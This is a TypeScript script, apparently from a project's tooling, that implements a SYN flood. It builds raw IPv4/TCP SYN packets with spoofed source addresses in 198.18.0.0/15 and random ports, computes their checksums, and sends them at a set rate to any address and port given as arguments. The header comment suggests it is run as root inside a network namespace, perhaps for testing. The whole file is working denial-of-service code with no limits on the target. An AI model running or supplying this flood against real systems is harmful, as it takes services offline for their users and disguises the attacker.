/**
 * A SYN flood from false addresses, out of the namespace that it is started in: `flood.ts ADDRESS PORT RATE MS` sends RATE
 * half-begun connections per second to a port and prints how many it sent. Root.
 */
import * as libc from "../../src/kernel/libc.ts";

const [, , target = "", port = "", rate = "", duration = ""] = process.argv;
const SOCK_RAW = 3;
const IPPROTO_RAW = 255;
const IPPROTO_TCP = 6;
const SYN = 0x02;
const everyMs = 10;

const address = Buffer.from(target.split(".").map(Number));
const packet = Buffer.alloc(40);
// IPv4: the kernel fills in lengths, identification and checksum of a raw packet.
packet.writeUInt8(0x45, 0);
packet.writeUInt16BE(packet.length, 2);
packet.writeUInt8(64, 8);
packet.writeUInt8(IPPROTO_TCP, 9);
address.copy(packet, 16);
// TCP
packet.writeUInt16BE(Number(port), 22);
packet.writeUInt16BE((5 << 12) | SYN, 32);
packet.writeUInt16BE(64_000, 34);

/** Another stranger of 198.18.0.0/15, which is nobody's, with another port each time. */
function next(random: () => number): Buffer {
  packet.writeUInt32BE((0xc612_0000 | Math.floor(random() * 0x2_0000)) >>> 0, 12);
  packet.writeUInt16BE(1024 + Math.floor(random() * 60_000), 20);
  packet.writeUInt32BE(Math.floor(random() * 2 ** 32), 24);
  packet.writeUInt16BE(0, 36);
  // The pseudo header: addresses, protocol, length of the segment.
  let sum = IPPROTO_TCP + 20;
  for (let at = 12; at < 40; at += 2) sum += packet.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  packet.writeUInt16BE(~sum & 0xffff, 36);
  return packet;
}

const fd = libc.socket(libc.AF_INET, SOCK_RAW, IPPROTO_RAW);
const to = Buffer.alloc(16);
to.writeUInt16LE(libc.AF_INET, 0);
address.copy(to, 4);
libc.connect(fd, to);
const began = Date.now();
let sent = 0;
const timer = setInterval(() => {
  const due = Math.min(Number(duration), Date.now() - began) * (Number(rate) / 1000);
  for (; sent < due; sent++) libc.send(fd, next(Math.random));
  // A machine that is too slow for the rate sends them all the same.
  if (sent < Number(duration) * (Number(rate) / 1000)) return;
  clearInterval(timer);
  libc.close(fd);
  console.log(sent);
}, everyMs);
